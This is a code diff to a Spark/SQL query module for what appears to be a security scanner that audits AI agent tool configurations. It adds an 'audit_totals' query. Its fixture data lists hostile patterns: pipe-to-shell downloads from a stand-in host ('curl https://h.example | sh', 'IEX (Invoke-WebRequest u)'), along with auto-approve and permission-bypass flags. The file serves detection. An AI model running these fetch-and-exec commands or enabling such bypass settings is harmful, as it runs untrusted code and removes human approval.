@@ -68,6 +68,12 @@ def audit_snapshot(spark: SparkSession, sf_dir: str) -> DataFrame:
     return surface.snapshot(surface.audit(configs, notes))
 
 
+def audit_totals(spark: SparkSession, sf_dir: str) -> DataFrame:
+    configs = table(spark, sf_dir, "events").select(F.col("event_id").alias("ord"), F.col("event_id").cast("string").alias("source"), F.expr(CONFIG).alias("text"))
+    parts = surface.audit(configs, texts(spark, sf_dir).select(F.col("label").alias("source"), "text"))
+    return surface.totals(parts, parts["servers"].where(F.col("spec").endswith("-1")))
+
+
 def inspect_commands(spark: SparkSession, sf_dir: str) -> DataFrame:
     """Each package by the command that installs it."""
     asked, f = feeds(spark, sf_dir)
@@ -109,7 +115,7 @@ y AS (SELECT *, ((contains(lower(text), 'curl ') OR contains(lower(text), 'wget
 
 QUERIES = {
     "fnv_fingerprint": fnv_fingerprint, "report_json": report_json, "guardrail_names": guardrail_names, "flat_json_rows": flat_json_rows, "sarif_levels": sarif_levels,
-    "skillscan_trust": skillscan_trust, "memcheck_findings": memcheck_findings, "audit_snapshot": audit_snapshot, "inspect_commands": inspect_commands,
+    "skillscan_trust": skillscan_trust, "memcheck_findings": memcheck_findings, "audit_snapshot": audit_snapshot, "audit_totals": audit_totals, "inspect_commands": inspect_commands,
     "surface_paths": surface_paths, "tool_catalogue": tool_catalogue,
 }
 SQL = {
@@ -129,6 +135,9 @@ UNION ALL SELECT path, record, label, 'HIGH', 'poisoned-memory' FROM y WHERE bad
     "audit_snapshot": """SELECT DISTINCT 'servers' AS kind, 'npx -y pkg-' || (user_id % 5) AS value FROM events WHERE event_id % 8 = 0
 UNION ALL SELECT 'secret_keys', 'a/API_TOKEN' UNION ALL SELECT 'network_hooks', 'curl https://h.example | sh'
 UNION ALL SELECT 'dangerous', unnest(['fetch-and-exec: curl https://h.example | sh', 'auto-approve: autoApprove', 'permission-bypass: permissionMode: acceptEdits', 'bypass-flag: --yolo', 'bypass-flag: --no-confirm --auto-approve', 'auto-approve: yolo', 'fetch-and-exec: IEX (Invoke-WebRequest u)'])""",
+    "audit_totals": f"""WITH t AS ({TEXTS}), f AS ({text_findings_sql('t')}), c AS (SELECT event_id % 8 AS k, user_id % 5 AS u FROM events)
+SELECT count(DISTINCT u) FILTER (k = 0) AS servers, count(DISTINCT u) FILTER (k = 0 AND u = 1) AS flagged, (SELECT count(*) FROM f) AS instruction_findings, count(*) FILTER (k = 1) AS network_hooks,
+ count(*) FILTER (k = 0) AS secrets, (count(*) FILTER (k = 1) + 2 * count(*) FILTER (k IN (2, 3, 4)))::BIGINT AS settings FROM c""",
     "inspect_commands": f"""WITH {_BASE} SELECT CASE ecosystem WHEN 'npm' THEN 'npx -y ' WHEN 'pypi' THEN 'uvx ' ELSE 'cargo install ' END || name || coalesce('@' || version, '') AS spec, verdict,
  CASE WHEN verdict IN ('MALICIOUS', 'MISSING', 'LOOKALIKE') THEN 'AVOID' WHEN verdict = 'OK' THEN 'GREEN' ELSE 'REVIEW' END AS trust FROM w""",
     "surface_paths": "SELECT o_orderkey, o_orderkey % 8 IN (0, 1, 7) AS config, o_orderkey % 8 IN (2, 4, 5) AS instruction FROM orders",
